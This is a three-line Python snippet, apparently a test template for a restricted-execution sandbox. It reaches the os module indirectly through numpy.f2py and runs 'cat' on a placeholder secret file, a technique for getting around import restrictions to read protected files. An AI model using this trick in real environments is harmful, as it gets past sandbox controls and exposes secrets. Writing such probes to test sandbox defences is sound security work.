"""NumPy's Fortran tool imports os."""
import numpy as np
print(np.f2py.os.popen("cat @SECRET_FILE@").read() if hasattr(np, "f2py") else "")
